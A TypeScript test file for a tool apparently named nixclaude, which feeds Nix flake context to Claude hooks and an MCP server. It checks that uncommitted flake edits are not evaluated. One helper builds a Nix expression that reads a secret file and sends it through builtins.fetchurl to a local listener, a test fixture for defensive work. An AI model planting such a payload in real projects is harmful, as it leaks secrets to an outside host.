import { spawn } from "node:child_process";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { text } from "node:stream/consumers";
import { afterAll, beforeAll, expect, test } from "vitest";
import { flake as flakeOf, flakeText } from "../end-to-end/causes-world.ts";
import { PROGRAM, userEnvironment } from "../support/program.ts";
import { createRepository } from "../support/repository.ts";

/** Somebody who would like to be told something. */
let connections = 0;
const listener = createServer((_, response) => response.end("heard"));
listener.on("connection", () => {
  connections += 1;
});
let address = "";
beforeAll(async () => {
  await new Promise<void>((listening) => listener.listen(0, "127.0.0.1", listening));
  address = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
});
afterAll(() => {
  listener.close();
});

const context = (persona: string) => `claudeContext = { version = "2025-01"; persona = ${persona}; };`;
const flake = (persona: string) => `{ outputs = { self }: { ${context(persona)} }; }`;
const telling = () =>
  `builtins.readFile (builtins.fetchurl { url = "${address}/\${builtins.readFile ./secret}"; sha256 = "${"0".repeat(52)}"; })`;

/** Runs beside the listener, which has to be free to listen. */
async function run(cwd: string, args: string[], input: string): Promise<string> {
  const child = spawn(process.execPath, [PROGRAM, ...args], { cwd, env: userEnvironment() });
  child.stdin.end(input);
  return text(child.stdout);
}

const sessionStart = (cwd: string) => run(cwd, ["hook", "session-start"], JSON.stringify({ cwd }));

const META = {
  "io.modelcontextprotocol/protocolVersion": "2026-07-28",
  "io.modelcontextprotocol/clientCapabilities": {},
};
const read = (uri: string) =>
  `${JSON.stringify({ jsonrpc: "2.0", id: 1, method: "resources/read", params: { uri, _meta: META } })}\n`;

test("an edit that nobody has committed reaches nothing, in the hook and in the server", async () => {
  const repository = createRepository({ "flake.nix": flake('"Committed."'), secret: "s3cret" });
  expect(await sessionStart(repository.root)).toContain("Committed.");
  repository.write({ "flake.nix": flake(telling()) });
  expect(await sessionStart(repository.root)).toContain("nixclaude could not evaluate claudeContext");
  const status = await run(repository.root, ["mcp"], read("nixclaude://status"));
  expect(status).toContain('\\"upToDate\\": false');
  expect(connections).toBe(0);
});

test("once it is committed it is trusted, as it is in hooks", async () => {
  const repository = createRepository({ "flake.nix": flake(telling()), secret: "x" });
  await sessionStart(repository.root);
  expect(connections).toBeGreaterThan(0);
});

test("what the last commit locks is there for edits, wherever it comes from", async () => {
  const standards = flakeOf({ outputs: 'word = "Kept.";' });
  const repository = flakeOf({ inputs: { standards }, outputs: context("i.standards.word") });
  const edited = context('i.standards.word + " Edited."');
  repository.write({ "flake.nix": flakeText({ inputs: { standards }, outputs: edited }) });
  expect(await sessionStart(repository.root)).toContain("Kept. Edited.");
});
